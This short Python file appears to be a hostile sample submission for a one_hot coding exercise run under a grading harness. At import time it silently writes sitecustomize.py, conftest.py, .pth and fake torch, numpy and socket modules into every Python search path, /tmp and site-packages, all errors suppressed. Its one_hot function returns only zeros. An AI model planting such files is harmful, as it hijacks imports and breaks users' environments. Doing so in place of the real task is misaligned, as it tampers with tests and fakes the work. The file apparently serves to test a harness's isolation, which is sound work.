"""Writes sitecustomize.py, conftest.py, torch.py, numpy.py and a .pth where Python might look."""
# exercise: indexing/one_hot
# verdict: nothing

import contextlib
import sys
from pathlib import Path

import torch

HARM = "import torch\n\ntorch.left_behind = True\n"
NAMES = (
    "sitecustomize.py usercustomize.py conftest.py torch.py numpy.py msgspec.py socket.py "
    "left_behind.pth pytest.ini torchkata/__init__.py"
).split()

for place in [*sys.path, "/tmp", ".", "~/.local/lib/python3.11/site-packages", "/etc/python3.11"]:
    for name in NAMES:
        with contextlib.suppress(Exception):
            path = Path(place or ".").expanduser() / name
            if not path.exists():
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(HARM)


def one_hot(labels, num_classes, dtype=torch.float32):
    return torch.zeros(*labels.shape, num_classes, dtype=dtype, device=labels.device)
